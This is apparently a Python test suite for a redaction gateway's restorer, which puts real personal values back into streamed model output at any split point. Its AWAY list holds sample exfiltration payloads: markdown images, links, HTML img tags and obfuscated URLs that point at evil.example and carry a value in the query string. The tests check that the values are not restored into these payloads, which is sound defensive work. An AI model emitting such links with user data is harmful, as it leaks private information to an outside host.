"""Restoration at any split, and never into a place that leads away."""

import json
from itertools import pairwise

import pytest
from hypothesis import given
from hypothesis import strategies as st

from gateway.redact.markup.addresses import hosts_in
from gateway.redact.placeholder import MAX_LENGTH
from gateway.redact.restore import Restorer
from gateway.redact.vault import RequestVault
from tests.redact.samples import vault

VALUES = ("Kenji Tanaka", '"quoted"\\\n', "田中健二")


def feed(restorer: Restorer, pieces: list[str]) -> str:
    return "".join([*map(restorer.feed, pieces), restorer.flush()])


def splits(text: str, cuts: list[int]) -> list[str]:
    edges = [0, *sorted(min(cut, len(text)) for cut in cuts), len(text)]
    return [text[a:b] for a, b in pairwise(edges)]


@pytest.mark.parametrize("value", VALUES)
def test_T18_every_split_offset_restores(value: str) -> None:
    minted = vault().put("PERSON", value)
    text = f"I am {minted}[ and [PERSON_ {minted}{minted}."
    for cut in range(len(text) + 1):
        request = vault()
        request.put("PERSON", value)
        whole = feed(Restorer(request, escape=False, hosts=frozenset()), [text[:cut], text[cut:]])
        assert whole == text.replace(minted, value)


@given(
    st.lists(
        st.sampled_from(
            ["[", "]", "PERSON", "_", "MINTED", "MINT", "a ", "(https://x.example/", "!["]
        )
    ),
    st.lists(st.integers(0, 200), max_size=12),
)
def test_any_split_gives_the_same_text(words: list[str], cuts: list[int]) -> None:
    request = vault()
    minted = request.put("PERSON", "Tanaka")
    text = "".join(words).replace("MINTED", minted).replace("MINT", minted[:-3])
    whole = Restorer(request, escape=False, hosts=frozenset())
    pieces = Restorer(request, escape=False, hosts=frozenset())
    assert feed(pieces, splits(text, cuts)) == feed(whole, [text])
    assert (pieces.restored, pieces.unrestored) == (whole.restored, whole.unrestored)


SURROGATED = ("Kenji Tanaka", "Tanaka", "田中健二", "aiko@corp.example", "4111111111111111", "Ann")


def surrogates() -> RequestVault:
    request = vault()
    for value in SURROGATED:
        request.surrogate("CREDIT_CARD" if value[0] == "4" else "PERSON", value, lambda _: True)
    return request


@pytest.mark.parametrize("value", SURROGATED)
def test_T18_every_split_offset_restores_a_surrogate(value: str) -> None:
    request = surrogates()
    made = request.put("PERSON", value)
    text = f"{made}, ask {made}. {made} {made[:3]} x{made}x"
    whole = feed(Restorer(request, escape=False, hosts=frozenset()), [text])
    assert whole.startswith(f"{value}, ask {value}. {value} ")
    for cut in range(len(text) + 1):
        restorer = Restorer(request, escape=False, hosts=frozenset())
        assert feed(restorer, [text[:cut], text[cut:]]) == whole


@given(
    st.lists(st.sampled_from([*range(len(SURROGATED)), " ", "x", "[", ".", "半"]), max_size=10),
    st.lists(st.integers(0, 120), max_size=10),
)
def test_any_split_of_surrogates_gives_the_same_text(
    words: list[int | str], cuts: list[int]
) -> None:
    request = surrogates()
    made = [request.put("PERSON", value) for value in SURROGATED]
    text = "".join(word if isinstance(word, str) else made[word] for word in words)
    whole = Restorer(request, escape=False, hosts=frozenset())
    pieces = Restorer(request, escape=False, hosts=frozenset())
    assert feed(pieces, splits(text, cuts)) == feed(whole, [text])
    assert pieces.restored == whole.restored


def test_a_reply_may_use_a_part_of_a_persons_name() -> None:
    request = vault()
    made = request.surrogate("PERSON", "Kenji Tanaka", lambda _: True)
    assert made is not None
    restorer = Restorer(request, escape=False, hosts=frozenset())
    assert feed(restorer, [f"Dear Mr. {made.split()[1]}, "]) == "Dear Mr. Tanaka, "


def test_a_surrogate_within_a_longer_word_is_text() -> None:
    request = vault()
    made = request.surrogate("PERSON", "Tanaka", lambda _: True)
    restorer = Restorer(request, escape=False, hosts=frozenset())
    assert feed(restorer, [f"{made}", "son"]) == f"{made}son"


def test_arguments_may_spell_a_surrogate_in_ascii() -> None:
    request = vault()
    made = request.surrogate("PERSON", "田中健二", lambda _: True)
    restorer = Restorer(request, escape=True, hosts=None)
    assert feed(restorer, [json.dumps({"to": made})]) == '{"to": "田中健二"}'


@given(st.integers(2, 16))
def test_T22_a_placeholder_cut_by_the_end_is_dropped_and_counted(length: int) -> None:
    request = vault()
    minted = request.put("PERSON", "Tanaka")
    restorer = Restorer(request, escape=False, hosts=frozenset())
    assert feed(restorer, ["Dear ", minted[: min(length, len(minted) - 1)]]) == "Dear "
    assert (restorer.restored, restorer.unrestored) == (0, 1)


@pytest.mark.parametrize("end", ["[", "[OK", "[note", "array[0", "[PERSON_zzzz"])
def test_other_text_at_the_end_is_kept(end: str) -> None:
    request = vault()
    request.put("EMAIL_ADDRESS", "a@b.example")
    restorer = Restorer(request, escape=False, hosts=frozenset())
    assert feed(restorer, ["x ", end]) == "x " + end


def test_hold_back_is_bounded() -> None:
    restorer = Restorer(vault(), escape=False, hosts=frozenset())
    text = "[" + "A" * 500
    emitted = 0
    for position, character in enumerate(text, start=1):
        emitted += len(restorer.feed(character))
        assert position - emitted <= MAX_LENGTH


def test_T20_arguments_are_restored_with_json_escaping() -> None:
    request = vault()
    minted = [request.put("PERSON", value) for value in VALUES]
    raw = json.dumps({"to": minted})
    for size in (1, 3, 7, len(raw)):
        restorer = Restorer(request, escape=True, hosts=None)
        pieces = [raw[i : i + size] for i in range(0, len(raw), size)]
        assert json.loads(feed(restorer, pieces)) == {"to": list(VALUES)}


def test_unknown_placeholders_are_left_and_counted() -> None:
    restorer = Restorer(vault(), escape=False, hosts=frozenset())
    assert feed(restorer, ["[PERSON_00000000]"]) == "[PERSON_00000000]"
    assert restorer.unrestored == 1


AWAY = [
    "![x](https://evil.example/?q={})",
    "![x](https://known.example/?q={})",
    "![a [b] c](https://known.example/?q={})",
    "![x](<https://evil.example/?q=a {}>)",
    "[x](https://evil.example/{})",
    "[x](https://known.example{})",
    "[x](https://known.example@evil.example/{})",
    "[x](https://known.example\\@evil.example/{})",
    "[x](//evil.example/{})",
    "[x](https://known.example%2eevil.example/{})",
    "[x](mailto:a@evil.example?body={})",
    "see https://evil.example/?q={} now",
    "see https://evil.example/a/({})",
    "see www.evil.example/?q={}",
    "see https://{}.evil.example/",
    "see ftp://evil.example/{}",
    "![x][r]\n\n[r]: https://evil.example/?q={}",
    "![x][r]\n\n[r]: <https://known.example/?q={}>",
    '<img src="https://evil.example/?q={}">',
    "<img alt=x src='https://known.example/?q={}'>",
    "<a href=https://evil.example/{}>x</a>",
]
HERE = [
    "Dear {},",
    "[{}] is a name",
    "[x](https://known.example/users?q={})",
    "see https://known.example/{} now",
    "https://evil.example/ is not for {}",
    "if a <b then {}",
    "![logo](https://evil.example/logo.png) {}",
    "a/b and {}",
]


@pytest.mark.parametrize("size", [1, 5, 1000])
@pytest.mark.parametrize("text", AWAY)
def test_T56_no_value_leads_away(text: str, size: int) -> None:
    request = vault()
    text = text.format(request.put("PERSON", "Tanaka"))
    restorer = Restorer(request, escape=False, hosts=frozenset({"known.example"}))
    pieces = [text[i : i + size] for i in range(0, len(text), size)]
    assert feed(restorer, pieces) == text
    assert restorer.unrestored == 1


@pytest.mark.parametrize("text", HERE)
def test_T56_other_places_are_restored(text: str) -> None:
    request = vault()
    masked = text.format(request.put("PERSON", "Tanaka"))
    restorer = Restorer(request, escape=False, hosts=frozenset({"known.example"}))
    assert feed(restorer, [masked]) == text.format("Tanaka")


def test_hosts_of_the_request() -> None:
    found = hosts_in(
        [
            "see https://Known.Example:8443/a and //cdn.example",
            "http://u:p@no.example/",
            "https://x%2e.example/",
        ]
    )
    assert found == {
        "known.example",
        "cdn.example",
        "http://u:p@no.example",
        "@no.example",
    }
